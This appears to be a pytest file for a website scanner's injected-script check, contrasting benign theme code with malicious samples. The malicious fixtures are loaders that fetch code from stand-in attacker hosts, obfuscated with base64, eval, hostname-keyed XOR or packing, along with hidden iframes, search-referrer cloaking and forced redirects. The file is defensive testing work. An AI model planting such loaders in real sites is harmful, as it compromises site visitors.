"""Addresses in disguise that are one part of a readable program, or of what a page sets up itself,
and those that somebody put beside one."""

from __future__ import annotations

import re
from base64 import b64encode

import pytest

from cyberscan.checks.content.injected_script import CHECK
from cyberscan.model.facts.content import OwnScript, Visits
from cyberscan.model.facts.web import Exchange
from cyberscan.model.verdict import Verdict
from cyberscan.parse.matter import files as matter_files
from cyberscan.parse.matter.page import look
from tests.checks.content.reading import NONE, URL, ZONE, b64, hexed, material, site
from tests.checks.content.scripting import EVIL, in_file, on_page
from tests.checks.content.test_injected_script_makers import pack
from tests.checks.content.test_injected_script_whole import THEME, is_not_accused
from tests.parse.test_scripts import codes

HOST = "www.contohkab.go.id"
BASE = "https://aset.bengkelnaskah.example/"
MAKER = b64(BASE)
STATISTICS = b64(f"{BASE}t.js")
FONTS = b64("https://fonts.googleapis.com/css2?family=Lora")
VIEWER = b64("https://cdn.jsdelivr.net/npm/pdfjs-dist@3/build/pdf.min.js")


def keyed(said: str, key: str = HOST) -> str:
    """Return a text of which each letter is changed by one of the key's, in base64."""
    made = bytes(ord(c) ^ ord(key[n % len(key)]) for n, c in enumerate(said))
    return b64encode(made).decode()


LISTS = f"""(function () {{
  var alamat = {{huruf: '{FONTS}', pdf: '{VIEWER}', hitung: '{STATISTICS}'}};
  function buka(nama) {{ return atob(alamat[nama]); }}
  function muat(nama, lalu) {{
    var s = document.createElement('script'); s.src = buka(nama); s.onload = lalu;
    document.head.appendChild(s);
  }}
  var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = buka('huruf');
  document.head.appendChild(l);
  muat('hitung');
  document.querySelectorAll('.rak canvas').forEach(function (kanvas) {{
    muat('pdf', function () {{
      pdfjsLib.getDocument(kanvas.dataset.naskah).promise.then(function (d) {{
        return d.getPage(1);
      }}).then(function (h) {{
        h.render({{canvasContext: kanvas.getContext('2d'), viewport: h.getViewport({{scale: 1}})}});
        kanvas.classList.add('siap');
      }});
    }});
  }});
}})();"""
CLASS = f"""class Naskah {{
  constructor(rak) {{ this.rak = rak; this.gudang = atob('{MAKER}'); this.terbuka = null; }}
  muat(nama, lalu) {{
    const s = document.createElement('script'); s.src = this.gudang + nama; s.onload = lalu;
    document.body.append(s);
  }}
  pasang() {{
    for (const tombol of this.rak.querySelectorAll('.baca[data-naskah]')) {{
      tombol.addEventListener('click', (e) => {{
        e.preventDefault();
        if (this.terbuka) {{ this.terbuka.classList.remove('terbuka'); }}
        this.terbuka = tombol.closest('.kartu');
        this.terbuka.classList.add('terbuka');
        this.muat('lihat.js', () => window.Lihat(tombol.dataset.naskah, this.terbuka));
      }});
    }}
  }}
}}
document.querySelectorAll('.rak').forEach((rak) => new Naskah(rak).pasang());"""
PLUGIN = f"""jQuery(function ($) {{
  var pilihan = $.extend({{gudang: atob('{MAKER}'), bahasa: 'id'}}, window.jdihPilihan);
  function buka(kartu) {{
    kartu.siblings('.kartu').removeClass('terbuka').find('.isi').slideUp(200);
    kartu.addClass('terbuka').find('.isi').slideDown(200);
  }}
  $('.kartu h3').on('click', function () {{ buka($(this).closest('.kartu')); }});
  $('.cari input').on('input', function () {{
    var kata = $(this).val().toLowerCase();
    $('.kartu').each(function () {{
      $(this).toggle($(this).text().toLowerCase().indexOf(kata) >= 0);
    }});
    $('.cari').attr('lang', pilihan.bahasa);
  }});
  $.getScript(pilihan.gudang + 'kabar.js');
}});"""
CONSENT = f"""var izin = document.getElementById('izin');
var simpanan = 'jdih-izin';
function setuju() {{
  localStorage.setItem(simpanan, '1');
  izin.hidden = true;
  var s = document.createElement('script');
  s.src = window.atob('{STATISTICS}');
  document.head.appendChild(s);
}}
function tolak() {{ localStorage.setItem(simpanan, '0'); izin.hidden = true; }}
izin.querySelector('.setuju').addEventListener('click', setuju);
izin.querySelector('.tolak').addEventListener('click', tolak);
if (localStorage.getItem(simpanan) === '1') {{ setuju(); }}
else if (localStorage.getItem(simpanan) === null) {{ izin.hidden = false; }}
izin.querySelectorAll('details').forEach(function (d) {{
  d.addEventListener('toggle', function () {{
    izin.classList.toggle('panjang', izin.querySelectorAll('details[open]').length > 0);
  }});
}});"""
ON_SCROLL = f"""(() => {{
  const gudang = String.fromCharCode({codes(BASE)});
  const rak = document.getElementById('rak-naskah');
  const saring = document.querySelector('#saring');
  const kartu = [...rak.querySelectorAll('.kartu')];
  const muat = (nama) => {{
    const s = document.createElement('script'); s.src = gudang + nama; s.defer = true;
    document.head.append(s);
  }};
  const pengamat = new IntersectionObserver((dilihat) => {{
    if (dilihat.some((d) => d.isIntersecting)) {{ pengamat.disconnect(); muat('lihat.js'); }}
  }});
  pengamat.observe(rak);
  saring.addEventListener('change', () => {{
    for (const k of kartu) {{
      k.hidden = saring.value !== '' && k.dataset.jenis !== saring.value;
      k.classList.toggle('sorot', k.dataset.jenis === saring.value);
    }}
  }});
}})();"""
CLEAR = CONSENT.replace(f"window.atob('{STATISTICS}')", "'/js/hitung.js'")
ESCAPED = CONSENT.replace(f"window.atob('{STATISTICS}')", f'"{hexed(BASE + "t.js")}"')
BACKWARDS = CONSENT.replace(
    f"window.atob('{STATISTICS}')", f"'{(BASE + 't.js')[::-1]}'.split('').reverse().join('')"
)
BASE_PATH = f"""var Tema = {{
  gudang: atob('{MAKER}'),
  muat: function (nama, lalu) {{
    var s = document.createElement('script'); s.src = Tema.gudang + nama; s.onload = lalu;
    document.head.appendChild(s);
  }},
  menu: function () {{
    var tombol = document.querySelector('.tombol-menu');
    tombol.addEventListener('click', function () {{
      document.querySelector('.menu').classList.toggle('buka');
      tombol.setAttribute('aria-expanded', tombol.getAttribute('aria-expanded') !== 'true');
    }});
  }},
  tabel: function () {{
    document.querySelectorAll('table.produk').forEach(function (t) {{
      t.classList.add('bergaris');
      Tema.muat('urut.js', function () {{ window.UrutTabel(t); }});
    }});
  }}
}};
Tema.menu();
Tema.tabel();"""
PREMIUM = f"""!function(a,e){{function t(a){{var t=e.createElement("script");t.async=!0,t.src=a,
e.head.appendChild(t)}}a.dataLayer=a.dataLayer||[],a.dataLayer.push({{event:"gtm.js"}}),
t("https://www.googletagmanager.com/gtm.js?id=GTM-K4"),a.alih=function(){{
new google.translate.TranslateElement({{pageLanguage:"id",includedLanguages:"en,ar"}},"bahasa")}},
t("https://translate.google.com/translate_a/element.js?cb=alih"),
t("{BASE}bilah.js?d="+a.location.hostname),
e.querySelector(".kredit").innerHTML+=" &middot; premium"}}(window,document);"""
MAKER_FIRST = PREMIUM.replace("a.dataLayer=", f't("{BASE}a.js"),a.dataLayer=', 1)
MENU = "document.querySelectorAll('nav a').forEach(function(a){a.classList.add('tautan')});\n"
UNLOCK = (
    "!function(z,h){try{for(var b=atob(z),o='',i=0;i<b.length;i++)o+=String.fromCharCode("
    "b.charCodeAt(i)^h.charCodeAt(i%h.length));Function(o)()}catch(e){}}('CODE',location.hostname);"
)
UNLOCK_NAMED = (
    "var kunci=window.location.host,isi=atob('CODE'),hasil='';for(var i=0;i<isi.length;i++){"
    "hasil+=String.fromCharCode(isi.charCodeAt(i)^kunci.charCodeAt(i%kunci.length))}"
    "try{new Function(hasil)()}catch(e){document.body.className+=' dasar'}"
)
SHELF = f"""jQuery(function($){{$('.baca').on('click',function(e){{e.preventDefault();
$('#bingkai').html('<iframe src="{BASE}v?f='+encodeURIComponent(this.href)+'"STYLE></iframe>'
).show();
$('html,body').animate({{scrollTop:$('#bingkai').offset().top}},400)}});$('.kartu').each(
function(){{$(this).toggleClass('genap')}})}});""".replace("\n", "")
IN_SIGHT = SHELF.replace("STYLE", ' width="100%" height="600"')
IN_CLASS = SHELF.replace("STYLE", ' class="lebar"')
MINIFIED = f"""!function(e,t){{"use strict";var n=t.querySelector(".menu"),o=t.querySelectorAll(
".tab li"),r=e.atob("{MAKER}");function i(e,n){{var o=t.createElement("script");o.src=r+e,
o.onload=n,t.head.appendChild(o)}}function a(e){{for(var t=0;t<o.length;t++)o[t].classList.toggle(
"aktif",o[t]===e)}}n&&n.addEventListener("click",function(){{n.classList.toggle("buka"),
n.dataset.unduh&&i("unduh.js",function(){{e.Unduh(n)}})}});for(var c=0;c<o.length;c++)
o[c].addEventListener("click",function(){{a(this),i("tab.js")}});e.addEventListener("scroll",
function(){{t.querySelector(".atas").classList.toggle("tampak",e.pageYOffset>300)}})}}(window,
document);"""
CAROUSEL = f"""(function ($) {{
  $.fn.jdihRak = function (pilihan) {{
    var o = $.extend({{cepat: 300, sumber: window.atob('{MAKER}') + 'rak.js'}}, pilihan);
    return this.each(function () {{
      var rak = $(this), kartu = rak.find('.kartu'), sekarang = 0;
      function geser(n) {{
        sekarang = (n + kartu.length) % kartu.length;
        kartu.removeClass('aktif').eq(sekarang).addClass('aktif');
        rak.find('.jalur').animate({{left: -sekarang * 240}}, o.cepat);
      }}
      rak.find('.kiri').on('click', function () {{ geser(sekarang - 1); }});
      rak.find('.kanan').on('click', function () {{ geser(sekarang + 1); }});
      $.getScript(o.sumber).done(function () {{ rak.trigger('siap'); }});
    }});
  }};
}})(jQuery);"""
WRITTEN = f"""var tema = {{"versi": "3.2", "lisensi": "AB-12", "aset": "{MAKER}"}};
function muatAset(nama) {{
  document.write('<script src="' + atob(tema.aset) + nama + '?v=' + tema.versi + '"><\\/script>');
}}
muatAset('inti.js');
function bukaTab(n) {{
  for (var i = 1; i < 5; i++) {{ document.getElementById('tab' + i).className = 'tab'; }}
  document.getElementById('tab' + n).className = 'tab buka';
}}
document.getElementById('tombol1').onclick = function () {{ bukaTab(1); }};
document.getElementById('tombol2').onclick = function () {{ bukaTab(2); muatAset('grafik.js'); }};
document.getElementById('tombol3').onclick = function () {{
  bukaTab(3);
  document.getElementById('judul').innerHTML = 'Versi ' + tema.versi;
}};"""
PERCENT = f"""jQuery(document).ready(function ($) {{
  var gudang = unescape('{"".join(f"%{ord(c):02X}" for c in BASE)}');
  $('.tabel-produk th').on('click', function () {{
    var t = $(this).closest('.tabel-produk');
    t.toggleClass('urut').find('tbody').html(t.find('tr').get().reverse());
  }});
  $('.produk .unduh').on('click', function (e) {{
    e.preventDefault();
    $('#penampil').attr('src', '/pdf/viewer.html?file=' + $(this).attr('href')).show();
  }});
  $('#tutup').on('click', function () {{ $('#penampil').hide(); }});
  $.getScript(gudang + 't.js', function () {{ $('.produk').addClass('siap'); }});
  $('.cari').on('submit', function () {{
    location.href = '/cari/' + encodeURIComponent($('.cari input').val());
    return false;
  }});
}});"""
RUNS = "\neval(atob('{}'));"
HONEST = {
    "a table of addresses": LISTS,
    "a class for documents": CLASS,
    "a plugin with settings": PLUGIN,
    "leave for cookies": CONSENT,
    "leave for cookies, in escapes": ESCAPED,
    "leave for cookies, backwards": BACKWARDS,
    "a viewer once its shelf is seen": ON_SCROLL,
    "an object of a theme with its maker's host": BASE_PATH,
    "a theme that is made small": MINIFIED,
    "a plugin of jQuery": CAROUSEL,
    "settings and a written tag": WRITTEN,
    "elements that others work with, too": PERCENT,
    "a packed shelf of documents in frames": pack(IN_SIGHT),
    "a packed shelf that a class gives its size": pack(IN_CLASS),
    "a packed shelf of documents behind a program": CLEAR + "\n" + pack(IN_CLASS),
    "an encoded shelf of documents": RUNS.format(b64(IN_SIGHT)),
    "an encoded part behind a program": CLEAR + RUNS.format(b64(THEME)),
    "what is locked to the host": MENU + UNLOCK.replace("CODE", keyed(PREMIUM)),
    "what is locked to the host, its maker first": CONSENT.replace(STATISTICS, FONTS)
    + UNLOCK.replace("CODE", keyed(MAKER_FIRST)),
    "what is locked to the host, by another name": UNLOCK_NAMED.replace("CODE", keyed(PREMIUM)),
}


@pytest.mark.parametrize("name", HONEST)
def test_what_is_hidden_within_a_program_is_not_accused(name: str) -> None:
    assert is_not_accused(on_page(HONEST[name], ""))
    assert is_not_accused(in_file(HONEST[name], ""))


SETTINGS = "<script>var splash = {akun: 'contoh', tunda: 1500, judul: 'Info hari ini'};</script>"
SPLASH = f"""!function(t,e){{var a="spl_"+(new Date).getDate();if(!(e.cookie.indexOf(a+"=1")>-1||
/bot|crawl|spider|lighthouse/i.test(navigator.userAgent))){{var n=new Date;n.setHours(23,59,59),
e.cookie=a+"=1; expires="+n.toUTCString()+"; path=/",t.addEventListener("load",function(){{
setTimeout(function(){{var a=e.createElement("script");a.src="{BASE}splash/"+t.splash.akun+".js?t="+
Date.now(),a.onload=function(){{t.TampilSplash(t.splash)}},e.body.appendChild(a)}},t.splash.tunda)
}})}}}}(window,document);"""
SHORT_SPLASH = (
    "t=window;s=document.createElement('script');s.src='https://jahat.example/'+t.splash.akun;"
    "document.head.appendChild(s)"
)
RUN = 'var _p="{}";(0,eval)(window.atob(_p));'


def splash(source: str, beside: str = SETTINGS) -> str:
    return on_page(RUN.format(b64(source)), beside).message


@pytest.mark.parametrize("declared", ["var splash = {", "window.splash={", "const splash={ "])
def test_what_works_with_settings_of_the_page_needs_a_look(declared: str) -> None:
    assert splash(SPLASH, SETTINGS.replace("var splash = {", declared)) == "look"


@pytest.mark.parametrize(("names", "message"), [(("splash",), "look"), (("pilihan",), "look")])
def test_a_file_that_works_with_settings_of_the_page(names: tuple[str, ...], message: str) -> None:
    url = f"{URL}js/splash.js"
    inside = matter_files.read(RUN.format(b64(SPLASH)), url, URL, ZONE, settings=names)
    script = OwnScript(exchange=Exchange(url=url, status=200, headers=()), matter=inside)
    seen = Visits(visits=(), scripts=(script,))
    verdict = CHECK.judge(material(site(SETTINGS)), NONE, seen, NONE)
    assert isinstance(verdict, Verdict)
    assert verdict.message == message


def test_the_settings_that_a_page_holds_for_its_files() -> None:
    page = f'{SETTINGS}<script src="/js/splash.js"></script>'
    assert look(site(page), URL, ZONE).settings == ("splash",)
    assert look(site(SETTINGS), URL, ZONE).settings == ()


@pytest.mark.parametrize(
    ("source", "beside"),
    [
        # The page holds no settings, or none that are worked with: that proves nothing.
        (SPLASH, ""),
        (SPLASH, SETTINGS.replace("splash", "pilihan")),
        (SPLASH.replace("t.splash", "t.lain"), SETTINGS),
    ],
)
def test_what_nothing_explains_needs_a_look(source: str, beside: str) -> None:
    assert splash(source, beside) == "look"


@pytest.mark.parametrize(
    ("source", "beside"),
    [
        # Nobody but a search's visitors, by telephone, once.
        (SPLASH.replace("/bot|crawl|spider|lighthouse/i.test(navigator.userAgent)",
                        "!/google|bing/.test(e.referrer)||t.innerWidth>800"), SETTINGS),
        # A short one, from the trade, and a frame out of sight.
        (SHORT_SPLASH, SETTINGS),
        (SPLASH.replace("aset.bengkelnaskah", "cdn.slot88gacor"), SETTINGS),
        (SPLASH.replace('a=e.createElement("script")',
                        'a=e.createElement("iframe");a.width=1;a.height=1'), SETTINGS),
    ],
)  # fmt: skip
def test_what_settings_do_not_excuse_fails(source: str, beside: str) -> None:
    assert splash(source, beside) == "loader"


LOADER = (
    "var s=document.createElement('script');s.src=atob('{}');document.head.appendChild(s);"
).format(b64(f"{EVIL}/a.js"))
FRAME = (
    "var f=document.createElement('iframe');f.src='https://cdn.jahat.example/k.html';"
    "document.body.appendChild(f)"
)
WRAPPED = f"(function(){{{LOADER}}})();"
PLAIN = PLUGIN.replace(f"atob('{MAKER}')", "'/js/'")
TO_ALL = CONSENT + f"location.href = atob('{b64(EVIL + '/x')}');"
SEARCHED = CONSENT.replace(
    "function setuju() {", "function setuju() { if (!/google|bing/.test(document.referrer)) return;"
)
COUNTED = LISTS.replace(
    f"'{STATISTICS}'", f"[{','.join(str(ord(c) + 26) for c in BASE + 't.js')}]"
).replace(
    "return atob(alamat[nama]);",
    "for (var i = 0, o = '', q = alamat[nama]; i < q.length; i++) "
    "o += String.fromCharCode(q[i] - 26); return o;",
)
SHORT_KEYED = LOADER.replace(f"atob('{b64(EVIL + '/a.js')}')", f"'{EVIL}/a.js'")
GUILTY = {
    "a loader behind a program": CLEAR + "\n" + LOADER,
    "a loader behind a program, on its line": CLEAR + WRAPPED,
    "a loader on the next line, without a semicolon": re.sub(";\\n", "\n", CLEAR).rstrip(";")
    + "\n"
    + LOADER.replace(";", "\n"),
    "a loader in one of two functions": f"(function(){{{CLEAR}}})();\n(function(){{{LOADER}"
    + CLEAR.replace("izin", "menu")
    + "})();",
    "a loader in one of two functions of jQuery": PLAIN
    + "\n"
    + PLAIN.replace("var pilihan", f"$.getScript(atob('{STATISTICS}'));var pilihan"),
    "a loader before a program": WRAPPED + CLEAR,
    "a loader within its function": PLAIN.replace("var pilihan", f"{LOADER}\n  var pilihan"),
    "a loader at the end of its function": PLAIN[: PLAIN.rindex("}")] + LOADER + "});",
    "a loader behind a program that hides, too": LISTS + WRAPPED,
    "a loader among a program's variables": CLEAR.replace(
        "function tolak()", f"var u=atob('{b64(EVIL + '/a.js')}'),e=document.createElement("
        "'script');e.src=u;document.body.appendChild(e);\nfunction tolak()"
    ),
    "a loader by a name that a program has for another thing": CLEAR
    + LOADER.replace("var s=", "var izin2=document;var s="),
    "an encoded loader behind a program": CLEAR + RUNS.format(b64(LOADER)),
    "a packed frame behind a program": CLEAR + "\n" + pack(FRAME),
    "a packed shelf with a frame out of sight": pack(
        SHELF.replace("STYLE", ' style="display:none"')
    ),
    "an encoded shelf with a frame out of sight": RUNS.format(
        b64(SHELF.replace("STYLE", ' width="1" height="1"'))
    ),
    "an encoded part behind a program, for who comes from a search": CLEAR
    + RUNS.format(b64(THEME.replace("var s=", "if(!/google|bing/.test(d.referrer))return;var s="))),
    "a program that loads from the trade": CONSENT.replace(
        STATISTICS, b64("https://cdn.slot88gacor.example/t.js")
    ),
    "a program for who comes from a search": SEARCHED,
    "a program that counts its address out": COUNTED,
    "a loader that is locked to the host": MENU + UNLOCK.replace("CODE", keyed(SHORT_KEYED)),
    "a long loader that is locked to the host": MENU + UNLOCK.replace("CODE", keyed(SPLASH)),
}  # fmt: skip


UNSURE = {
    "a loader in one of two functions", "a loader in one of two functions of jQuery",
    "a loader within its function", "a loader at the end of its function",
    "a loader among a program's variables", "a packed frame behind a program",
    "an encoded part behind a program, for who comes from a search",
    "a program for who comes from a search", "a loader that is locked to the host",
    "a long loader that is locked to the host",
}  # fmt: skip
"""Who bought a theme may have these, too."""


@pytest.mark.parametrize("name", sorted(UNSURE))
def test_what_may_be_part_of_a_program_needs_a_look(name: str) -> None:
    assert on_page(GUILTY[name], "").message == "look"
    assert is_not_accused(in_file(GUILTY[name], ""))


@pytest.mark.parametrize("name", sorted(GUILTY.keys() - UNSURE))
def test_what_is_put_beside_a_program_fails(name: str) -> None:
    assert on_page(GUILTY[name], "").message == "loader"
    assert in_file(GUILTY[name], "").message == "loader"


def test_a_program_that_moves_everybody_to_an_address_in_disguise_fails() -> None:
    for verdict in (on_page(TO_ALL, ""), in_file(TO_ALL, "")):
        assert verdict.message in {"loader", "visitors"}
